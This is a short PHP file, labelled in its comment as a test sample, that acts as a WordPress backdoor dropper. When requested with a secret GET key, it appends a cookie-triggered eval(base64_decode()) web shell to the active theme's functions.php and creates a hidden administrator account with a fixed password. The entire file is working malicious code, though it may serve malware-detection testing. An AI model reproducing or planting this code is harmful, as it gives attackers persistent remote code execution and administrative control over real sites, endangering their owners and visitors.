<?php
// Test sample: drops a backdoor into the active theme's functions.php and
// creates a hidden administrator; triggered by a GET key.
if (isset($_GET['wpd']) && $_GET['wpd'] === 'k3y') {
    require_once dirname(__FILE__) . '/wp-load.php';
    $theme = get_template_directory() . '/functions.php';
    $payload = "\n" . 'if(isset($_COOKIE["wp_d"])){@eval(base64_decode($_COOKIE["wp_d"]));}' . "\n";
    file_put_contents($theme, $payload, FILE_APPEND);
    if (!username_exists('wp_sysadmin')) {
        $id = wp_create_user('wp_sysadmin', 'Chang3Me!', 'sysadmin@example.invalid');
        $u = new WP_User($id);
        $u->set_role('administrator');
    }
    echo 'ok';
}
